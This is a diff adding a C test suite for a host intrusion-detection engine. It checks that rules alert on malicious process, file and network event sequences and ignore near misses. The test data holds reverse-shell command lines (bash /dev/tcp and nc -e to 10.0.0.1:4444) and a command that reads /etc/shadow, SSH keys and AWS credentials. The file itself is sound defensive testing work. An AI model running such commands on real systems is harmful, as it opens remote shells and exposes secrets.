@@ -1,0 +1,373 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * The shipped rules (rules/NAME.rule) on recorded event sequences in a real
+ * store, with the near misses that must not alert. The file, network and
+ * security tables are created here with the SCHEMA.md columns when the
+ * store does not make them yet.
+ */
+#include <criterion/criterion.h>
+#include <errno.h>
+#include <sqlite3.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "detect.h"
+#include "fmt.h"
+#include "store.h"
+
+#define COMMON                                                                               \
+	"Timestamp TEXT NOT NULL, DeviceId TEXT NOT NULL, DeviceName TEXT, ActionType TEXT," \
+	" ReportId INTEGER, AdditionalFields TEXT, InitiatingProcessId INTEGER,"             \
+	" InitiatingProcessFileName TEXT, InitiatingProcessFolderPath TEXT,"                 \
+	" InitiatingProcessCommandLine TEXT, InitiatingProcessCreationTime TEXT,"            \
+	" InitiatingProcessAccountName TEXT, InitiatingProcessParentId INTEGER,"             \
+	" InitiatingProcessParentFileName TEXT"
+
+static char dir[64], dbpath[128];
+static struct vg_store *st;
+static struct vg_detect *det;
+static sqlite3 *db;
+static int report_id;
+
+static void sql(const char *fmt, ...)
+{
+	char *q, *msg = NULL;
+	va_list ap;
+
+	va_start(ap, fmt);
+	q = sqlite3_vmprintf(fmt, ap); /* %Q quotes a string for SQL */
+	va_end(ap);
+	cr_assert_not_null(q);
+	cr_assert_eq(sqlite3_exec(db, q, NULL, NULL, &msg), SQLITE_OK, "%s: %s", q, msg);
+	sqlite3_free(q);
+}
+
+static long long qint(const char *fmt, ...)
+{
+	sqlite3_stmt *s;
+	long long v = -1;
+	char *q;
+	va_list ap;
+
+	va_start(ap, fmt);
+	cr_assert_geq(vasprintf(&q, fmt, ap), 0);
+	va_end(ap);
+	cr_assert_eq(sqlite3_prepare_v2(db, q, -1, &s, NULL), SQLITE_OK, "%s: %s", q,
+		     sqlite3_errmsg(db));
+	if (sqlite3_step(s) == SQLITE_ROW)
+		v = sqlite3_column_int64(s, 0);
+	sqlite3_finalize(s);
+	free(q);
+	return v;
+}
+
+static void setup(void)
+{
+	struct vg_sb why;
+
+	strcpy(dir, "/tmp/vigil-detect-XXXXXX");
+	cr_assert_not_null(mkdtemp(dir));
+	snprintf(dbpath, sizeof(dbpath), "%s/t.db", dir);
+	cr_assert_eq(vg_store_open(&st, dbpath), 0);
+	db = vg_store_db(st);
+	sql("CREATE TABLE IF NOT EXISTS DeviceFileEvents (" COMMON ", FileName TEXT,"
+	    " FolderPath TEXT, PreviousFileName TEXT, PreviousFolderPath TEXT, FileSize INTEGER,"
+	    " SHA256 TEXT)");
+	sql("CREATE TABLE IF NOT EXISTS DeviceNetworkEvents (" COMMON ", RemoteIP TEXT,"
+	    " RemotePort INTEGER, LocalIP TEXT, LocalPort INTEGER, Protocol TEXT)");
+	sql("CREATE TABLE IF NOT EXISTS DeviceEvents (" COMMON ", FileName TEXT, FolderPath TEXT,"
+	    " InitiatingProcessAccountUid INTEGER)");
+	vg_sb_init(&why);
+	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0, "%s", vg_sb_str(&why));
+	vg_sb_free(&why);
+	report_id = 0;
+}
+
+static void teardown(void)
+{
+	char cmd[160];
+
+	vg_detect_close(det);
+	vg_store_close(st);
+	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
+	system(cmd);
+}
+
+TestSuite(detect, .init = setup, .fini = teardown);
+
+#define NOW "strftime('%%Y-%%m-%%dT%%H:%%M:%%fZ', 'now')"
+
+static void proc(const char *dev, const char *action, const char *folder, const char *cmd,
+		 const char *parent)
+{
+	const char *base = strrchr(folder, '/');
+	int id = ++report_id;
+
+	sql("INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
+	    " FolderPath, ProcessId, ProcessCommandLine, InitiatingProcessFileName) VALUES"
+	    " (" NOW ", '%s', '%s', %d, '%s', '%s', %d, %Q, '%s')",
+	    dev, action, id, base ? base + 1 : folder, folder, 1000 + id, cmd, parent);
+}
+
+static void fileev(const char *dev, const char *action, const char *folder, const char *by)
+{
+	sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
+	    " FolderPath, InitiatingProcessId, InitiatingProcessFileName) VALUES"
+	    " (" NOW ", '%s', '%s', %d, '%s', '%s', 77, '%s')",
+	    dev, action, ++report_id, strrchr(folder, '/') + 1, folder, by);
+}
+
+static void netev(const char *dev, const char *action, const char *by, int pid)
+{
+	sql("INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, ActionType, ReportId, RemoteIP,"
+	    " RemotePort, Protocol, InitiatingProcessId, InitiatingProcessFileName) VALUES"
+	    " (" NOW ", '%s', '%s', %d, '10.0.0.1', 4444, 'Tcp', %d, '%s')",
+	    dev, action, ++report_id, pid, by);
+}
+
+static void devev(const char *dev, const char *action, const char *folder, const char *by, int pid,
+		  const char *account, const char *by_account)
+{
+	/* a ptrace target's account is in AdditionalFields, as vigild sends it */
+	sql("INSERT INTO DeviceEvents (Timestamp, DeviceId, ActionType, ReportId, FolderPath,"
+	    " InitiatingProcessId, InitiatingProcessCreationTime, InitiatingProcessFileName,"
+	    " AdditionalFields, InitiatingProcessAccountUid) VALUES"
+	    " (" NOW ", '%s', '%s', %d, '%s', %d, '2026-01-01T00:00:00.000Z', '%s', %Q, %s)",
+	    dev, action, ++report_id, folder, pid, by,
+	    *account ? sqlite3_mprintf("{\"TargetProcessId\":9,\"TargetAccountUid\":%s}", account) :
+		       "{}",
+	    *by_account ? by_account : "0");
+}
+
+static long long alerts(const char *rule)
+{
+	return qint("SELECT count(*) FROM AlertInfo WHERE RuleId = '%s'", rule);
+}
+
+static long long total_alerts(void)
+{
+	return qint("SELECT count(*) FROM AlertInfo");
+}
+
+Test(detect, exec_from_tmp_and_near_misses)
+{
+	proc("d1", "ProcessCreated", "/usr/bin/tmpwatch", "tmpwatch", "cron");
+	proc("d1", "ProcessCreated", "/home/u/tmp/tool", "tool", "bash");
+	proc("d1", "ProcessCreated", "/tmpfs/x", "x", "bash");
+	proc("d1", "ProcessTerminated", "/tmp/gone", "", "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	proc("d1", "ProcessCreated", "/dev/shm/.x", "/dev/shm/.x -q", "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("exec_from_tmp"), 1);
+	/* evidence names the event: table, rowid and ReportId */
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
+			  " JOIN DeviceProcessEvents p ON p.rowid = e.SourceRowId"
+			  " WHERE e.SourceTable = 'DeviceProcessEvents' AND p.FolderPath = "
+			  "'/dev/shm/.x' AND e.ReportId = p.ReportId AND a.Severity = 'Medium'"
+			  " AND a.AttackTechniques = 'T1204.002' AND e.FolderPath = '/dev/shm/.x'"),
+		     1);
+	/* a second run sees no new rows: no second alert */
+	cr_assert_eq(vg_detect_run(det), 0);
+	proc("d1", "ProcessCreated", "/tmp/a.out", "./a.out", "make");
+	proc("d1", "ProcessCreated", "/var/tmp/b", "b", "sh");
+	cr_assert_eq(vg_detect_run(det), 2);
+	cr_expect_eq(alerts("exec_from_tmp"), 3);
+}
+
+Test(detect, download_chmod_exec)
+{
+	/* near misses: not downloaded, downloaded but never chmod'ed, another device */
+	fileev("d1", "FileCreated", "/home/u/copied", "cp");
+	fileev("d1", "FileModeChanged", "/home/u/copied", "chmod");
+	proc("d1", "ProcessCreated", "/home/u/copied", "./copied", "bash");
+	fileev("d1", "FileCreated", "/home/u/plain", "curl");
+	proc("d1", "ProcessCreated", "/home/u/plain", "./plain", "bash");
+	fileev("d2", "FileCreated", "/home/u/elsewhere", "wget");
+	fileev("d2", "FileModeChanged", "/home/u/elsewhere", "chmod");
+	proc("d1", "ProcessCreated", "/home/u/elsewhere", "./elsewhere", "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	fileev("d1", "FileCreated", "/home/u/payload", "wget");
+	fileev("d1", "FileModeChanged", "/home/u/payload", "chmod");
+	cr_assert_eq(vg_detect_run(det), 0);
+	proc("d1", "ProcessCreated", "/home/u/payload", "./payload", "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("download_exec"), 1);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence WHERE Title LIKE 'File downloaded%%'"
+			  " AND FolderPath = '/home/u/payload' AND ActionType = 'ProcessCreated'"),
+		     1);
+}
+
+Test(detect, reverse_shell)
+{
+	proc("d1", "ProcessCreated", "/usr/bin/nc", "nc -l 4444", "bash");
+	proc("d1", "ProcessCreated", "/bin/bash", "bash -c 'ls /dev/tcpdump'", "make");
+	proc("d1", "ProcessCreated", "/bin/bash", "bash ./configure", "make");
+	netev("d1", "ConnectionSuccess", "curl", 50);
+	netev("d1", "ListeningConnectionCreated", "bash", 51);
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	proc("d1", "ProcessCreated", "/bin/bash",
+	     "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "sh");
+	proc("d1", "ProcessCreated", "/bin/sh", "sh", "nc");
+	proc("d1", "ProcessCreated", "/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", "bash");
+	cr_assert_eq(vg_detect_run(det), 3);
+	cr_expect_eq(alerts("reverse_shell"), 3);
+	/* two connections of one shell: one alert, two pieces of evidence */
+	netev("d1", "ConnectionAttempt", "bash", 52);
+	netev("d1", "ConnectionSuccess", "bash", 52);
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("reverse_shell_net"), 1);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
+			  " WHERE a.RuleId = 'reverse_shell_net' AND e.RemoteIP = '10.0.0.1'"),
+		     2);
+}
+
+Test(detect, credential_enumeration)
+{
+	/* ssh reads keys for a living; one file alone is no enumeration */
+	devev("d1", "SensitiveFileRead", "/root/.ssh/id_rsa", "ssh", 60, "", "0");
+	devev("d1", "SensitiveFileRead", "/root/.ssh/id_ed25519", "ssh", 60, "", "0");
+	devev("d1", "SensitiveFileRead", "/etc/shadow", "python3", 61, "", "0");
+	devev("d1", "SensitiveFileRead", "/etc/shadow", "python3", 61, "", "0");
+	proc("d1", "ProcessCreated", "/usr/bin/cat", "cat /etc/passwd", "bash");
+	proc("d1", "ProcessCreated", "/usr/bin/ssh-keygen", "ssh-keygen -f /root/.ssh/id_rsa",
+	     "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	devev("d1", "SensitiveFileRead", "/root/.aws/credentials", "python3", 61, "", "0");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("credential_files"), 1);
+	/* evidence is the rows of this run: the earlier reads were seen before */
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
+			  " WHERE a.RuleId = 'credential_files'"),
+		     1);
+	devev("d1", "SensitiveFileRead", "/root/.ssh/id_rsa", "python3", 61, "", "0");
+	cr_assert_eq(vg_detect_run(det), 0, "same process: evidence joins the open alert");
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
+			  " WHERE a.RuleId = 'credential_files'"),
+		     2);
+
+	proc("d1", "ProcessCreated", "/usr/bin/head",
+	     "head -c0 /etc/shadow /root/.ssh/id_rsa /root/.aws/credentials", "sh");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("credential_files_cmdline"), 1);
+}
+
+Test(detect, ptrace_kernel_fileless)
+{
+	devev("d1", "PtraceAttach", "", "gdb", 70, "1000", "1000");
+	devev("d1", "PtraceAttach", "", "gdb", 69, "", "1000"); /* target gone: no uid */
+	devev("d1", "BpfProgramLoad", "", "vigild", 71, "", "0");
+	proc("d1", "ProcessCreated", "/usr/bin/memfd_tool", "memfd_tool", "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	devev("d1", "PtraceAttach", "", "gdb", 72, "0", "1000");
+	devev("d1", "KernelModuleLoad", "/root/rk.ko", "insmod", 73, "", "0");
+	devev("d1", "BpfProgramLoad", "", "bpftool", 74, "", "0");
+	devev("d1", "FilelessExec", "/memfd:x (deleted)", "bash", 75, "", "0");
+	proc("d1", "ProcessCreated", "/memfd:payload (deleted)", "payload", "python3");
+	proc("d1", "ProcessCreated", "/home/u/old (deleted)", "old", "bash");
+	cr_assert_eq(vg_detect_run(det), 6);
+	cr_expect_eq(alerts("ptrace_other_user"), 1);
+	cr_expect_eq(alerts("kernel_load"), 2);
+	cr_expect_eq(alerts("fileless_exec_event"), 1);
+	cr_expect_eq(alerts("fileless_exec"), 2);
+}
+
+Test(detect, watermark_survives_a_restart)
+{
+	struct vg_sb why;
+
+	proc("d1", "ProcessCreated", "/tmp/one", "one", "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	vg_detect_close(det);
+	vg_sb_init(&why);
+	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0);
+	vg_sb_free(&why);
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(qint("SELECT LastRowId FROM DetectionState WHERE TableName ="
+			  " 'DeviceProcessEvents'"),
+		     qint("SELECT max(rowid) FROM DeviceProcessEvents"));
+}
+
+static void bad_rule(const char *text, const char *want)
+{
+	char rdir[128], path[160];
+	struct vg_detect *d2 = NULL;
+	struct vg_sb why;
+	FILE *f;
+
+	snprintf(rdir, sizeof(rdir), "%s/rules", dir);
+	mkdir(rdir, 0700);
+	snprintf(path, sizeof(path), "%s/bad.rule", rdir);
+	f = fopen(path, "w");
+	cr_assert_not_null(f);
+	fputs(text, f);
+	fclose(f);
+	vg_sb_init(&why);
+	cr_expect_eq(vg_detect_open(&d2, db, rdir, &why), -EINVAL);
+	cr_expect_null(d2);
+	cr_expect_not_null(strstr(vg_sb_str(&why), want), "want '%s' in:\n%s", want,
+			   vg_sb_str(&why));
+	vg_sb_free(&why);
+}
+
+Test(detect, malformed_rules_are_refused_with_position)
+{
+	bad_rule("title: t\nseverity: High\ncategory: c\nmitre: T1000\nquery:\n"
+		 "DeviceProcessEvents\n| where Nope == 1\n",
+		 "/bad.rule:7:9: unknown column 'Nope'\n  | where Nope == 1\n          ^");
+	bad_rule("title: t\nseverity: Urgent\ncategory: c\nmitre: T1000\nquery:\nDeviceInfo\n",
+		 "severity 'Urgent' is not");
+	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: X1\nquery:\nDeviceInfo\n",
+		 "mitre 'X1' is not an ATT&CK technique");
+	bad_rule("title: t\nseverity: Low\ncolour: c\n", "bad.rule:3:1: unknown key 'colour'");
+	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\n", "no 'query:' section");
+	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\nquery:\n"
+		 "DeviceProcessEvents | project FileName\n",
+		 "must return the events of its table");
+	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\ngroup: Nope\nquery:\n"
+		 "DeviceProcessEvents\n",
+		 "group column 'Nope'");
+}
+
+Test(detect, rule_for_a_missing_table_waits_for_it)
+{
+	char rdir[128], path[160];
+	struct vg_detect *d2;
+	struct vg_sb why;
+	int waiting;
+	FILE *f;
+
+	snprintf(rdir, sizeof(rdir), "%s/rules2", dir);
+	mkdir(rdir, 0700);
+	snprintf(path, sizeof(path), "%s/later.rule", rdir);
+	f = fopen(path, "w");
+	fputs("title: later\nseverity: Low\ncategory: c\nmitre: T1000\nquery:\nFutureEvents\n"
+	      "| where Kind == \"x\"\n",
+	      f);
+	fclose(f);
+	vg_sb_init(&why);
+	cr_assert_eq(vg_detect_open(&d2, db, rdir, &why), 0, "%s", vg_sb_str(&why));
+	vg_sb_free(&why);
+	cr_expect_eq(vg_detect_nrules(d2, &waiting), 1);
+	cr_expect_eq(waiting, 1);
+	cr_expect_eq(vg_detect_run(d2), 0);
+	sql("CREATE TABLE FutureEvents (Timestamp TEXT, DeviceId TEXT, Kind TEXT)");
+	sql("INSERT INTO FutureEvents VALUES ('t', 'd9', 'y'), ('t', 'd9', 'x')");
+	cr_expect_eq(vg_detect_run(d2), 1);
+	vg_detect_nrules(d2, &waiting);
+	cr_expect_eq(waiting, 0);
+	vg_detect_close(d2);
+}
